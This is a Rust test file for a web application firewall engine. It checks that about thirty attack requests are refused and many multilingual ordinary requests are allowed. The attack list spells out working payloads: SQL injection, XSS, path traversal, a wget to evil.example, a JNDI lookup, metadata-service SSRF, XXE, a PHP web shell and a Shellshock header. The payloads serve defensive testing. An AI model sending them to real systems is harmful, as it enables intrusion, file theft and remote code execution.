//! At default settings and enforcing: attacks are refused, ordinary requests are not. Not one.

use std::sync::Arc;

use bartizan_inspect::{EngineMode, RuleSet, Verdict};

use crate::{
    folder,
    ftw::{self, Request},
};

fn request(method: &str, target: &str, content_type: &str, body: &[u8]) -> Request {
    let mut headers = vec![
        ("Host", "api.example.com"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "application/json, text/plain, */*"),
        ("Accept-Language", "en-US,en;q=0.5"),
        ("Cookie", "session=4f6a1c0b9e8d7a6f5e4d3c2b1a09f8e7; theme=dark; _ga=GA1.2.123.456"),
    ];
    let length = body.len().to_string();
    if !content_type.is_empty() {
        headers.extend([("Content-Type", content_type), ("Content-Length", length.as_str())]);
    }
    Request {
        method: method.into(),
        target: target.into(),
        protocol: b"HTTP/1.1".to_vec(),
        headers: headers
            .iter()
            .map(|(name, value)| (name.as_bytes().to_vec(), value.as_bytes().to_vec()))
            .collect(),
        body: body.to_vec(),
    }
}

fn get(target: &str) -> Request {
    request("GET", target, "", b"")
}

fn json(body: &str) -> Request {
    request("POST", "/api/v1/items", "application/json", body.as_bytes())
}

fn form(body: &str) -> Request {
    request("POST", "/login", "application/x-www-form-urlencoded", body.as_bytes())
}

fn file(name: &str, content: &str) -> Request {
    let body = format!(
        "--b7Q\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday pictures, part 2\r\n--b7Q\r\n\
         Content-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: image/png\r\n\r\n{content}\r\n--b7Q--\r\n"
    );
    request("POST", "/upload", "multipart/form-data; boundary=b7Q", body.as_bytes())
}

fn with_header(name: &str, value: &str) -> Request {
    let mut request = get("/");
    request.headers.push((name.into(), value.into()));
    request
}

fn refused(verdict: &Verdict) -> bool {
    verdict.refusal.is_some() || !verdict.incomplete.is_empty()
}

fn load() -> Option<Arc<RuleSet>> {
    Some(folder::load(&folder::crs()?, EngineMode::Enforce))
}

#[test]
fn attacks_are_refused_at_default_settings() {
    let Some(set) = load() else { return };
    let attacks = [
        get("/?id=1%27%20OR%20%271%27=%271"),
        get("/?id=1+UNION+SELECT+username,password+FROM+users--"),
        get("/?id=1;DROP+TABLE+users"),
        get("/?id=sleep(5)%23"),
        get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        get("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
        get("/?q=javascript:alert(document.cookie)"),
        get("/?file=../../../../etc/passwd"),
        get("/?file=..%252f..%252f..%252fetc%252fpasswd"),
        get("/..%2f..%2f..%2fetc/passwd"),
        get("/.git/config"),
        get("/?cmd=;cat+/etc/passwd"),
        get("/?cmd=$(id)%26%26wget+http://evil.example/x"),
        get("/?x=%24%7Bjndi:ldap://evil.example/a%7D"),
        get("/?u=http://169.254.169.254/latest/meta-data/"),
        get("/?p=php://input&c=system(%27id%27)"),
        get("/index.php?x=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;s:1:%22b%22;%7D"),
        form("user=admin'--&password=x"),
        form("comment=<svg/onload=alert(1)>"),
        json(r#"{"name":"x' OR 1=1 --"}"#),
        json(r#"{"deep":{"er":[{"q":"<script>alert(1)</script>"}]}}"#),
        json(r#"{"name":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#),
        json(r#"{"a":1,"a":"x"}"#),
        json("{\"a\":"),
        request("POST", "/", "text/xml", b"<a><b>1' UNION SELECT password FROM users--</b></a>"),
        request("POST", "/", "text/xml", b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
        file("shell.php", "<?php system($_GET['c']); ?>"),
        with_header("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
        with_header("Referer", "http://x/?q=<script>alert(1)</script>"),
        with_header("User-Agent", "sqlmap/1.7"),
    ];
    let missed: Vec<String> = attacks
        .iter()
        .filter(|attack| !refused(&ftw::run(&set, None, attack)))
        .map(|attack| {
            String::from_utf8_lossy(&[&attack.target[..], b" ", &attack.body].concat()).into_owned()
        })
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn ordinary_requests_are_not_refused_at_default_settings() {
    let Some(set) = load() else { return };
    let ordinary = [
        get("/"),
        get("/api/v1/orders?customer=12345&status=open&sort=-created_at&page=2&per_page=50"),
        get("/search?q=blue+shoes+size+42"),
        get("/search?q=O%27Brien"),
        get("/search?q=rock+%26+roll"),
        get("/search?q=C%2B%2B+or+C%23"),
        get("/search?q=%E4%B8%AD%E6%96%87%E6%90%9C%E7%B4%A2"),
        get("/search?q=%D9%85%D8%B1%D8%AD%D8%A8%D8%A7"),
        get("/search?q=Gr%C3%BC%C3%9Fe+aus+K%C3%B6ln"),
        get("/search?q=%F0%9F%98%80"),
        get("/callback?code=4%2F0AY0e-g7&state=af0ifjsldkj&scope=openid%20email"),
        get("/assets/app.3f2a1b.min.js?v=1.2.3"),
        get("/users/jane.miller%40example.com/profile"),
        get("/events?from=2026-01-01T00:00:00Z&to=2026-12-31T23:59:59%2B02:00"),
        get("/items?filter%5Bprice%5D%5Bgte%5D=10&filter%5Btags%5D%5B%5D=a&filter%5Btags%5D%5B%5D=b"),
        get("/map?bbox=-122.42,37.77,-122.40,37.80&zoom=12.5"),
        form("user=jane&password=Tr0ub4dor%263&remember=on"),
        form("name=Jean-Luc+d%27Arc&street=12+Main+St.%2C+Apt+%235&city=K%C3%B6ln"),
        form("message=Dear+team%2C%0D%0Aplease+select+a+date+from+the+list.%0D%0AThanks%21"),
        json(
            r#"{"customer":{"id":12345,"name":"Jane Miller","email":"jane@example.com"},"total":19.99,"paid":true}"#,
        ),
        json(r#"{"name":"O'Brien","note":"It's Jane's and Tom's order; don't ring the bell."}"#),
        json(r#"{"title":"中文标题","body":"这是一个普通的句子。"}"#),
        json(r#"{"title":"مرحبا بالعالم","body":"هذا نص عادي."}"#),
        json(r#"{"title":"Grüße","body":"Schöne Grüße aus Köln, bis nächste Woche!"}"#),
        json(r#"{"text":"Great work 🎉🚀 see you at 5 😀"}"#),
        json(
            r#"{"ids":[1,2,3,4,5],"at":"2026-11-22T17:00:00+01:00","uuid":"7f9c24e5-2f6b-4c1a-9b7e-0d3c5a1e8f42"}"#,
        ),
        json(r#"{"price":{"amount":"1,299.00","currency":"EUR"},"discount":"10%","ratio":"3:1"}"#),
        json(
            r#"{"query":"query Orders($id: ID!) { orders(customer: $id, first: 10) { id total items { sku quantity } } }","variables":{"id":"42"}}"#,
        ),
        json(r#"{"markdown":"Heading\n\n- one\n- two\n\nSee https://example.com/docs for more."}"#),
        json(r#"{"token":"eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl"}"#),
        json(r#"{"empty":"","none":null,"list":[],"object":{}}"#),
        json("[]"),
        json(r#"{"description":"We sell tables, chairs and the best select coffee; order by Friday."}"#),
        request("POST", "/api/v1/items/5", "application/json; charset=utf-8", br#"{"name":"Lamp"}"#),
        request("POST", "/rpc", "text/xml", b"<order><id>5</id><name>Jane &amp; Tom</name></order>"),
        file("holiday-2026.png", "\u{89}PNG data with bytes"),
        file("R\u{e9}sum\u{e9} 2026.pdf", "content"),
        with_header("Authorization", "Bearer eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl"),
        with_header("Referer", "https://www.example.com/search?q=blue+shoes&page=2"),
        with_header("If-None-Match", "\"33a64df551425fcc55e4d42a148795d9f25f89d4\""),
        with_header("X-Request-Id", "01J9ZQ4Y0Q6Y4J8R1V5K2N3M7P"),
    ];
    let wronged: Vec<String> = ordinary
        .iter()
        .filter_map(|request| {
            let verdict = ftw::run(&set, None, request);
            let rules: Vec<String> = verdict
                .matches
                .iter()
                .map(|found| format!("{} {} {}", found.rule, found.variable, found.excerpt))
                .collect();
            refused(&verdict).then(|| {
                let text = String::from_utf8_lossy(&[&request.target[..], b" ", &request.body].concat())
                    .into_owned();
                format!("{text}: {rules:?} {:?}", verdict.incomplete)
            })
        })
        .collect();
    assert!(wronged.is_empty(), "{wronged:#?}");
}
